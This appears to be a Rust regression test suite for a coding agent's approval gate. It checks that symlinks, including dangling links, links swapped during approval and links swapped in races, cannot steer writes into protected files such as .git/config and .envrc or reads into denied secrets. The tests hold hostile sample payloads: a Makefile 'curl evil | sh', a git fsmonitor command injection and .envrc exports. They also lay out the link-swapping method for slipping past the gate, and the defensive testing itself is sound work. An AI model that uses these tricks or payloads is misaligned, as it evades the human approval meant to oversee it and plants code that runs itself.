//! Issue 25, item 1: the gate judged one file and the tool acted on another.
//! The approval engine resolved paths on its own (`fs::canonicalize`, which
//! falls back to a dangling link's own name) and every tool resolved the
//! path string again when it ran. Now a path is resolved once, with every
//! link followed to its final target (dangling ones included); rules,
//! protected paths and allow rules judge that target; the resolution travels
//! with the call to the tool, which refuses if the path now leads elsewhere
//! or the file there is not the one judged.

#![cfg(unix)]

use std::fs;
use std::os::unix::fs::symlink;
use std::path::Path;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};

use agentcore::approval::{ApprovalAnswer, Mode, approver_fn};
use agentcore::config::Policy;
use agentcore::message::ToolCall;
use agentcore::session::{Session, SessionConfig};
use agentcore::tools::set::{Builtin, ToolSet};
use agentcore::{EventSink, Outcome};
use serde_json::{Value, json};

fn session(root: &Path, mode: Option<Mode>, policy: &str) -> Session {
    let mut config = SessionConfig::new(root);
    // Every built-in tool that works without checkpoints.
    config.tools =
        ToolSet::new(Builtin::ALL.into_iter().filter(|b| !b.needs_checkpoints())).unwrap();
    // The races below fail many calls on purpose.
    config.max_tool_errors = u32::MAX;
    config.policy = Some(Policy::from_toml(policy).unwrap());
    config.mode = mode;
    Session::start(config).unwrap()
}

/// Runs one call through the whole pipeline, gate included.
async fn call(session: &Session, tool: &str, args: Value) -> (Outcome, String) {
    let turn = session.turn(EventSink::noop());
    let result = turn
        .run([ToolCall::new("c1", tool, args)])
        .await
        .expect("turn");
    let result = result.results.into_iter().next().expect("one result");
    let text = result
        .content
        .iter()
        .filter_map(|c| c.as_text())
        .collect::<Vec<_>>()
        .join("\n");
    (result.outcome, text)
}

fn tempdir() -> (tempfile::TempDir, std::path::PathBuf) {
    let dir = tempfile::tempdir().unwrap();
    let root = fs::canonicalize(dir.path()).unwrap();
    (dir, root)
}

/// (a) A dangling link planted by a confined command (`notes.txt ->
/// .git/commondir`): the write is judged as a write of `.git/commondir`, a
/// protected path, so accept-edits mode does not allow it, and nothing is
/// created there.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_write_through_a_dangling_link_is_judged_as_a_write_of_its_target() {
    let cases = [
        ("notes.txt", ".git/commondir"),
        ("todo.md", ".envrc"),
        ("settings.txt", ".claude/settings.local.json"),
        ("hook.sh", ".claude/hooks/pre.sh"),
        ("deep/notes.txt", "../.git/config"),
    ];
    for (link, target) in cases {
        let (_dir, root) = tempdir();
        fs::create_dir_all(root.join(".git")).unwrap();
        fs::create_dir_all(root.join(".claude/hooks")).unwrap();
        if let Some(parent) = Path::new(link).parent() {
            fs::create_dir_all(root.join(parent)).unwrap();
        }
        symlink(target, root.join(link)).unwrap();
        let s = session(&root, Some(Mode::AcceptEdits), "");
        let (outcome, text) = call(
            &s,
            "write",
            json!({"file_path": link, "content": "gitdir: /tmp/evil\n"}),
        )
        .await;
        assert_eq!(outcome, Outcome::Denied, "{link} -> {target}: {text}");
        assert!(text.contains("protected path"), "{link}: {text}");
        let landed = root
            .join(Path::new(link).parent().unwrap_or(Path::new("")))
            .join(target);
        assert!(
            !landed.exists(),
            "{link} -> {target}: the target was created"
        );
    }
}

/// (a) The same through apply_patch: `*** Add File` and `*** Move to`.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn apply_patch_through_a_dangling_link_is_judged_as_its_target() {
    let (_dir, root) = tempdir();
    fs::create_dir_all(root.join(".git")).unwrap();
    symlink(".git/commondir", root.join("notes.txt")).unwrap();
    symlink(".envrc", root.join("moved.txt")).unwrap();
    fs::write(root.join("plain.txt"), "a\n").unwrap();
    let s = session(&root, Some(Mode::AcceptEdits), "");
    let add = "*** Begin Patch\n*** Add File: notes.txt\n+gitdir: /tmp/evil\n*** End Patch\n";
    let (outcome, text) = call(&s, "apply_patch", json!({ "patch": add })).await;
    assert_eq!(outcome, Outcome::Denied, "{text}");
    assert!(!root.join(".git/commondir").exists());

    let (outcome, _) = call(&s, "read", json!({"file_path": "plain.txt"})).await;
    assert_eq!(outcome, Outcome::Success);
    let mv = "*** Begin Patch\n*** Update File: plain.txt\n*** Move to: moved.txt\n@@\n-a\n+export X=1\n*** End Patch\n";
    let (outcome, text) = call(&s, "apply_patch", json!({ "patch": mv })).await;
    assert_eq!(outcome, Outcome::Denied, "{text}");
    assert!(!root.join(".envrc").exists());
    assert_eq!(fs::read_to_string(root.join("plain.txt")).unwrap(), "a\n");
}

/// (d) An allow rule matches only the final target: `src/build.rs ->
/// ../Makefile` is not covered by `allow = ["write(src/**)"]`.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_allow_rule_does_not_cover_a_link_to_a_file_outside_it() {
    let (_dir, root) = tempdir();
    fs::create_dir_all(root.join("src")).unwrap();
    fs::write(root.join("Makefile"), "all:\n\ttrue\n").unwrap();
    symlink("../Makefile", root.join("src/build.rs")).unwrap();
    // Dangling too: the allow rule must not create a file outside src/.
    symlink("../new.mk", root.join("src/gen.rs")).unwrap();
    let s = session(&root, None, r#"allow = ["write(src/**)", "read"]"#);
    let (outcome, _) = call(&s, "read", json!({"file_path": "src/build.rs"})).await;
    assert_eq!(outcome, Outcome::Success);
    for link in ["src/build.rs", "src/gen.rs"] {
        let (outcome, text) = call(
            &s,
            "write",
            json!({"file_path": link, "content": "all:\n\tcurl evil | sh\n"}),
        )
        .await;
        assert_eq!(outcome, Outcome::Denied, "{link}: {text}");
        assert!(text.contains("approval required"), "{link}: {text}");
    }
    assert_eq!(
        fs::read_to_string(root.join("Makefile")).unwrap(),
        "all:\n\ttrue\n"
    );
    assert!(!root.join("new.mk").exists());
    // A real file under src/ is still allowed.
    let (outcome, text) = call(
        &s,
        "write",
        json!({"file_path": "src/main.rs", "content": "fn main() {}\n"}),
    )
    .await;
    assert_eq!(outcome, Outcome::Success, "{text}");
}

/// (e) Through a link, a read-deny rule says "denied" whether the denied
/// file exists or not: the answer does not tell what is there.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_read_denied_target_is_denied_the_same_whether_it_exists_or_not() {
    let (_dir, root) = tempdir();
    fs::create_dir_all(root.join("secrets")).unwrap();
    fs::write(root.join("secrets/key"), "sk-live-1\n").unwrap();
    symlink("secrets/key", root.join("x")).unwrap();
    symlink("secrets/missing", root.join("y")).unwrap();
    let s = session(&root, None, r#"deny = ["read(./secrets/**)"]"#);
    let (ox, tx) = call(&s, "read", json!({"file_path": "x"})).await;
    let (oy, ty) = call(&s, "read", json!({"file_path": "y"})).await;
    assert_eq!(ox, Outcome::Denied, "{tx}");
    assert_eq!(oy, Outcome::Denied, "{ty}");
    assert!(!tx.contains("sk-live"));
    assert_eq!(
        tx.replace("reads x.", "reads P."),
        ty.replace("reads y.", "reads P.")
    );
}

/// (c) No race needed: the person approved a call writing `x` (then a
/// link to `a.txt`), and while the question was open the model's job
/// pointed `x` at `.envrc`. The approved call must not write `.envrc`.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_approved_call_does_not_follow_a_link_changed_while_it_was_asked() {
    let (_dir, root) = tempdir();
    // Dangling: the approved call creates a.txt.
    symlink("a.txt", root.join("x")).unwrap();
    let s = session(&root, None, "");
    let relink_root = root.clone();
    s.approval()
        .set_approver(Some(Arc::new(approver_fn(move |_req| {
            let root = relink_root.clone();
            async move {
                // `ln -sfn .envrc x`, as a background job would.
                let tmp = root.join("x.tmp");
                symlink(".envrc", &tmp).unwrap();
                fs::rename(&tmp, root.join("x")).unwrap();
                ApprovalAnswer::AllowOnce
            }
        }))));
    let (outcome, text) = call(
        &s,
        "write",
        json!({"file_path": "x", "content": "export PWNED=1\n"}),
    )
    .await;
    assert_eq!(outcome, Outcome::Failed, "{text}");
    assert!(text.contains("now leads to a different file"), "{text}");
    assert!(!root.join(".envrc").exists());
    assert!(!root.join("a.txt").exists());
}

/// (c) The same for a file replaced by another one while the question was
/// open (a different inode at the same name): refused as not the file
/// that was judged.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_approved_call_refuses_a_file_replaced_while_it_was_asked() {
    let (_dir, root) = tempdir();
    fs::write(root.join("a.txt"), "one\n").unwrap();
    let s = session(&root, None, "");
    let (outcome, _) = call(&s, "read", json!({"file_path": "a.txt"})).await;
    assert_eq!(outcome, Outcome::Success);
    let swap_root = root.clone();
    s.approval()
        .set_approver(Some(Arc::new(approver_fn(move |_req| {
            let root = swap_root.clone();
            async move {
                fs::write(root.join("b.txt"), "one\n").unwrap();
                fs::rename(root.join("b.txt"), root.join("a.txt")).unwrap();
                ApprovalAnswer::AllowOnce
            }
        }))));
    let (outcome, text) = call(
        &s,
        "write",
        json!({"file_path": "a.txt", "content": "two\n"}),
    )
    .await;
    assert_eq!(outcome, Outcome::Failed, "{text}");
    assert_eq!(fs::read_to_string(root.join("a.txt")).unwrap(), "one\n");
}

/// Swaps `x` between a link to an allowed file and a link to a protected
/// or denied one, as fast as it can, until told to stop.
fn swapper(
    root: &Path,
    allowed: &str,
    forbidden: &str,
    stop: Arc<AtomicBool>,
) -> std::thread::JoinHandle<usize> {
    let root = root.to_path_buf();
    let (allowed, forbidden) = (allowed.to_owned(), forbidden.to_owned());
    std::thread::spawn(move || {
        let mut swaps = 0;
        let a = root.join("ln-a");
        let b = root.join("ln-b");
        while !stop.load(Ordering::Relaxed) {
            let _ = fs::remove_file(&a);
            let _ = fs::remove_file(&b);
            let _ = symlink(&allowed, &a);
            let _ = symlink(&forbidden, &b);
            let _ = fs::rename(&a, root.join("x"));
            let _ = fs::rename(&b, root.join("x"));
            swaps += 1;
        }
        swaps
    })
}

/// (b) A neighbour swapping `x -> a.txt` with `x -> .git/config` while
/// writes of `x` run: before, 68 of 640 landed in `.git/config`; now none.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn racing_writes_never_land_in_a_protected_file() {
    let (_dir, root) = tempdir();
    fs::create_dir_all(root.join(".git")).unwrap();
    let config = "[core]\n\tbare = false\n";
    fs::write(root.join(".git/config"), config).unwrap();
    fs::write(root.join("a.txt"), "").unwrap();
    symlink("a.txt", root.join("x")).unwrap();
    let s = session(&root, Some(Mode::AcceptEdits), "");
    let stop = Arc::new(AtomicBool::new(false));
    let racer = swapper(&root, "a.txt", ".git/config", stop.clone());
    let landed = AtomicUsize::new(0);
    let mut written = 0;
    // At least 1,500 calls, and on until one write has succeeded (a loaded
    // machine starves the racer or the writer and fewer succeed): the
    // race must have been run for its outcome to prove anything.
    let mut calls = 0;
    for i in 0..6000 {
        if i >= 1500 && written > 0 {
            break;
        }
        calls += 1;
        // Read first, so a write over the existing a.txt passes the ledger.
        let _ = call(&s, "read", json!({"file_path": "x", "limit": 1000 + i})).await;
        let content = format!("[core]\n\tfsmonitor = \"touch PWNED-{i}\"\n");
        let (outcome, _) = call(&s, "write", json!({"file_path": "x", "content": content})).await;
        if outcome == Outcome::Success {
            written += 1;
        }
        if fs::read_to_string(root.join(".git/config")).unwrap() != config {
            landed.fetch_add(1, Ordering::Relaxed);
            fs::write(root.join(".git/config"), config).unwrap();
        }
    }
    stop.store(true, Ordering::Relaxed);
    let swaps = racer.join().unwrap();
    let landed = landed.load(Ordering::Relaxed);
    eprintln!(
        "racing writes: {calls} calls, {written} written, {landed} landed in .git/config, {swaps} swaps"
    );
    assert!(swaps > 100, "the racer barely ran ({swaps} swaps)");
    assert_eq!(landed, 0, "{written} writes succeeded");
    assert!(
        written > 0,
        "no write succeeded, so the race proved nothing"
    );
}

/// (b) A neighbour swapping `x -> pub.txt` with `x -> secrets/key` under a
/// read-deny rule: before, 41 of 1,380 reads returned the secret; now none.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn racing_reads_never_return_a_denied_file() {
    let (_dir, root) = tempdir();
    fs::create_dir_all(root.join("secrets")).unwrap();
    fs::write(root.join("secrets/key"), "sk-live-secret\n").unwrap();
    fs::write(root.join("pub.txt"), "public\n").unwrap();
    symlink("pub.txt", root.join("x")).unwrap();
    let s = session(&root, None, r#"deny = ["read(./secrets/**)"]"#);
    let stop = Arc::new(AtomicBool::new(false));
    let racer = swapper(&root, "pub.txt", "secrets/key", stop.clone());
    let mut leaks = 0;
    let mut shown = 0;
    for i in 0..3000 {
        // The limit differs call by call, so that the loop guard does not
        // take the same read of the same file for a model going round.
        let (outcome, text) = call(&s, "read", json!({"file_path": "x", "limit": 1000 + i})).await;
        if text.contains("sk-live") {
            leaks += 1;
        }
        if outcome == Outcome::Success {
            shown += 1;
        }
    }
    stop.store(true, Ordering::Relaxed);
    let swaps = racer.join().unwrap();
    eprintln!(
        "racing reads: 3000 calls, {shown} shown, {leaks} returned the secret, {swaps} swaps"
    );
    assert!(swaps > 100, "the racer barely ran ({swaps} swaps)");
    assert_eq!(leaks, 0);
    assert!(shown > 0, "no read succeeded, so the race proved nothing");
}

/// Hooks judge the final target too: a PreToolUse guard that refuses
/// writes of `.envrc` by name sees `.envrc`, not the link `todo.md`.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_pre_tool_use_hook_is_shown_where_a_link_leads() {
    let (_dir, root) = tempdir();
    symlink(".envrc", root.join("todo.md")).unwrap();
    let guard = r#"input=$(cat); case "$input" in *'.envrc"'*) echo "no .envrc" >&2; exit 2;; esac; exit 0"#;
    let settings = json!({"hooks": {"PreToolUse": [{"matcher": "Write", "hooks": [{"type": "command", "command": guard}]}]}});
    let mut config = SessionConfig::new(&root);
    config.mode = Some(Mode::Bypass);
    config.hooks = agentcore::hooks::HookConfig::from_settings_json(&settings.to_string()).unwrap();
    let s = Session::start(config).unwrap();
    let (outcome, text) = call(
        &s,
        "write",
        json!({"file_path": "todo.md", "content": "export X=1\n"}),
    )
    .await;
    assert_eq!(outcome, Outcome::Denied, "{text}");
    assert!(text.contains("no .envrc"), "{text}");
    assert!(!root.join(".envrc").exists());
}
